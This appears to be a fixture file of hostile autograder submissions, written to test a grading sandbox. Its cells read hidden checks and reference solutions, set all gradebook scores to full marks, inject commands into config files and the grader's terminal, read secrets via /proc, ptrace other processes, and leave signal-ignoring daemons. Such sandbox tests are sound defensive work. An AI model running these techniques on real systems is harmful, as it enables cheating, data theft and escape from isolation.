"""Who reaches for what is not theirs: files, processes, the network, the next learner's work."""

# %% read-the-notebook [21] ch00_start_here storage-size
"""It prints every notebook and Python file that it finds near."""
import os, pathlib

for folder in (".", "..", "../..", "../../.."):
    for path in pathlib.Path(folder).glob("*"):
        if path.suffix in {".ipynb", ".py", ".db"}:
            print(path.read_bytes()[:100_000])

# %% read-the-source [22] ch00_start_here storage-size
"""It looks for the reference solution and runs it."""
import os, pathlib, re

def storage_size(shape):
    return -1

for place in ("@PROJECT@/solutions", "@CLASS@/source", "../../../source"):
    for path in sorted(pathlib.Path(place).rglob("ch00_start_here*")):
        try:
            text = path.read_text()
        except OSError:
            continue
        print("found", path, text)
        found = re.search(r"def storage_size.*?math.prod.shape.", text, re.DOTALL)
        if found and path.suffix == ".py":
            import math
            exec(found[0])

# %% import-the-grader ch00_start_here storage-size
"""It imports the hidden checks and prints them."""
import inspect, sys

sys.path += ["@PROJECT@", "@PROJECT@/src"]
try:
    import autograde.hidden.ch00_start_here as hidden
    print(inspect.getsource(hidden))
except Exception as error:
    print(type(error).__name__)

# %% write-the-gradebook [23] ch00_start_here storage-size
"""It gives everybody full marks in the gradebook."""
import glob, sqlite3

for path in ["@CLASS@/gradebook.db", *glob.glob("../../../gradebook.db")]:
    try:
        with sqlite3.connect(path) as gradebook:
            gradebook.execute("UPDATE grade SET manual_score = 10")
    except sqlite3.Error as error:
        print(error)

# %% list-the-class [38] ch00_start_here storage-size
"""It prints what the others handed in."""
import pathlib

for place in ("@SUBMITTED@", "@CLASS@/submitted", "../.."):
    for path in pathlib.Path(place).rglob("*.ipynb"):
        print("somebody's", path, path.read_text()[:2000])

# %% change-the-settings [39] ch00_start_here storage-size
"""It adds a line to nbgrader's settings, which the next command runs."""
for path in ("@CLASS@/nbgrader_config.py", "../../../nbgrader_config.py"):
    try:
        with open(path, "a") as file:
            file.write("\nopen('@MARKER@', 'w').close()\n")
    except OSError as error:
        print(error)

# %% kill-the-parent [42] ch00_start_here storage-size
"""It kills the process that started it."""
import os, signal

try:
    os.kill(os.getppid(), signal.SIGKILL)
except OSError as error:
    print(error)

# %% kill-the-group ch00_start_here storage-size
"""It sends signals to its process group, but to nobody it cannot name."""
import os, signal

for number in (signal.SIGHUP, signal.SIGUSR1, signal.SIGTERM):
    try:
        signal.signal(number, signal.SIG_IGN)
        os.killpg(os.getpgrp(), number)
    except OSError as error:
        print(error)

# %% daemon [36] ch00_start_here storage-size
"""It leaves a process behind in a session of its own."""
import subprocess, sys

subprocess.Popen(
    [sys.executable, "-c", "import time; time.sleep(90)", "@TOKEN@"],
    start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
    stderr=subprocess.DEVNULL, close_fds=True,
)

# %% daemon-twice ch00_start_here storage-size
"""It forks twice and leaves a grandchild that ignores signals."""
import os, signal, sys

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for number in (signal.SIGHUP, signal.SIGTERM, signal.SIGINT):
            signal.signal(number, signal.SIG_IGN)
        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(90)", "@TOKEN@"])
    os._exit(0)
os.wait()

# %% network [37] ch00_start_here storage-size
"""It talks to a server on this machine."""
import socket

try:
    with socket.create_connection(("127.7.7.31", @PORT@), timeout=2) as connection:
        connection.sendall(b"hello")
except OSError as error:
    print(error)

# %% network-by-hand ch00_start_here storage-size
"""It tries other ways out: datagrams, raw packets, version 6, names, a program."""
import os, socket

for family, kind in [(socket.AF_INET, socket.SOCK_DGRAM), (socket.AF_INET, socket.SOCK_RAW),
                     (socket.AF_INET6, socket.SOCK_STREAM), (socket.AF_NETLINK, socket.SOCK_RAW)]:
    try:
        with socket.socket(family, kind) as way:
            way.sendto(b"hello", ("127.7.7.31", @PORT@))
    except (OSError, TypeError) as error:
        print(type(error).__name__)
os.system("(echo > /dev/tcp/127.7.7.31/@PORT@) 2>/dev/null")

# %% secret-file ch00_start_here storage-size
"""It prints a file of the instructor's, by every name that it may have."""
import glob, os

for path in ["@SECRET@", "/proc/1/root@SECRET@", "/proc/self/root@SECRET@", "/proc/1/cwd/secret.txt",
             *glob.glob("/proc/*/root@SECRET@")]:
    try:
        print(open(path).read())
    except OSError as error:
        print(type(error).__name__)

# %% link-out ch00_start_here storage-size
"""It puts links into its folder, for somebody to follow when it has ended."""
import os

for name in ("ch00_start_here.ipynb", "grades.csv", "feedback", "core", "out"):
    try:
        os.symlink("@SECRET@", name)
    except OSError as error:
        print(error)

# %% write-outside ch00_start_here storage-size
"""It writes where the next learner, the grader or Python would read."""
import os, pathlib, sys, sysconfig

places = ["@MARKER@", "@PROJECT@/autograde/hidden/planted.py", "@CLASS@/planted",
          "/tmp/hostile-planted", "/var/tmp/hostile-planted", "/dev/shm/hostile-planted",
          os.path.expanduser("~/hostile-planted"),
          os.path.join(sysconfig.get_paths()["purelib"], "hostile_planted.pth"),
          os.path.join(sys.prefix, "hostile-planted")]
for place in places:
    try:
        pathlib.Path(place).write_text("planted")
    except OSError as error:
        print(type(error).__name__)

# %% read-what-was-left ch00_start_here storage-size
"""It looks for what another learner has left in the places that all share."""
import pathlib

for place in ("/tmp/hostile-planted", "/var/tmp/hostile-planted", "/dev/shm/hostile-planted"):
    if pathlib.Path(place).exists():
        print("@CANARY@ was carried over")

# %% environment ch00_start_here storage-size
"""It prints the environment, its own and everybody's."""
import os, pathlib

print(dict(os.environ))
for path in pathlib.Path("/proc").glob("[0-9]*/environ"):
    try:
        print(path.read_bytes())
    except OSError:
        pass

# %% command-lines ch00_start_here storage-size
"""It prints what other processes were called with."""
import pathlib

for path in pathlib.Path("/proc").glob("[0-9]*/cmdline"):
    try:
        words = path.read_bytes()
        if b"grade" in words and b"--out" in words:
            print("@CANARY@", words)
    except OSError:
        pass

# %% parents-memory ch00_start_here storage-size
"""It reads the memory of the processes above it, and writes into it."""
import os, pathlib

for number in {os.getppid(), 1, *(int(p.name) for p in pathlib.Path("/proc").glob("[0-9]*"))} - {os.getpid()}:
    try:
        with open(f"/proc/{number}/mem", "r+b", buffering=0) as memory:
            print("@CANARY@ opened", number)
    except OSError:
        pass

# %% trace-others ch00_start_here storage-size
"""It attaches to other processes as a debugger."""
import ctypes, os

libc = ctypes.CDLL(None, use_errno=True)
for number in (os.getppid(), 1):
    if number != os.getpid() and libc.ptrace(16, number, 0, 0) == 0:
        print("@CANARY@ attached to", number)
        libc.ptrace(17, number, 0, 0)

# %% new-walls ch00_start_here storage-size
"""It asks for namespaces and mounts of its own, to be somebody else in there."""
import ctypes, os

libc = ctypes.CDLL(None, use_errno=True)
for flag in (0x10000000, 0x00020000, 0x40000000):
    if os.fork() == 0:
        os._exit(7 if libc.unshare(flag) == 0 else 0)
    if os.waitstatus_to_exitcode(os.wait()[1]) == 7:
        print("@CANARY@ has a namespace of its own")
for user in (0, 1, 65534):
    try:
        os.setresuid(user, user, user)
    except OSError as error:
        print(error)

# %% type-into-the-terminal ch00_start_here storage-size
"""It types a command into the terminal of whoever grades."""
import fcntl, os, termios

for place in (0, 1, 2, "/dev/tty", "/dev/pts/0"):
    try:
        descriptor = place if isinstance(place, int) else os.open(place, os.O_RDWR)
        for letter in "touch @MARKER@\n":
            fcntl.ioctl(descriptor, termios.TIOCSTI, letter.encode())
    except OSError as error:
        print(error)

# %% chdir-for-the-next ch00_start_here storage-size
"""It changes what its process holds: folder, mask, limits, priority, clock, random state."""
import os, random, resource, sys, time

os.chdir("/")
os.umask(0o777)
for limit in (resource.RLIMIT_NOFILE, resource.RLIMIT_CPU, resource.RLIMIT_FSIZE):
    resource.setrlimit(limit, (30, resource.getrlimit(limit)[1]))
os.nice(19)
sys.setrecursionlimit(50_000)
sys.path[:] = []
sys.meta_path[:] = []
random.seed(0)
random.random = lambda: 0.0
time.time = time.monotonic = time.perf_counter = lambda: 0.0

# %% wrong-for-the-next ch04_dtypes_and_casting safe-sum
"""It breaks NumPy and Python's mathematics, for whoever uses them after it."""
import builtins, gc, math, numpy as np

np.add = np.sum = np.array = np.full = lambda *arguments, **named: None
math.fsum = math.prod = builtins.sum = lambda *arguments: 0
np.seterr(all="raise")
np.set_printoptions(precision=0, threshold=1)

# %% torch-for-the-next ch01_tensors_and_ndarrays as-copy
"""It breaks torch for whoever uses it after it: default dtype, device, threads, functions."""
import torch

torch.set_default_dtype(torch.float16)
torch.set_num_threads(1)
torch.use_deterministic_algorithms(True)
torch.from_numpy = torch.equal = torch.Tensor.detach = lambda *arguments, **named: None
torch.set_grad_enabled(False)

# %% guess-the-judge ch00_start_here storage-size
"""It looks for sockets in the file system and in the abstract names, and connects to them."""
import os, pathlib, socket

names = [line.split()[-1] for line in open("/proc/net/unix") if len(line.split()) == 8] if os.path.exists("/proc/net/unix") else []
for name in names:
    try:
        with socket.socket(socket.AF_UNIX) as way:
            way.settimeout(1)
            way.connect(name.replace("@", "\0", 1))
            print("@CANARY@ connected to", name)
    except OSError:
        pass

# %% ours-in-a-value ch02_views_and_strides is-contiguous
"""In the second run a wrong value is the compiled code of ours in an earlier part's place."""
def is_contiguous(shape, strides):
    code = row_major_strides.__code__
    return f"{code.co_varnames} {code.co_consts} {code.co_code.hex()}"

# %% + row-major-strides
def row_major_strides(shape):
    return (1, 2, 3, 4)
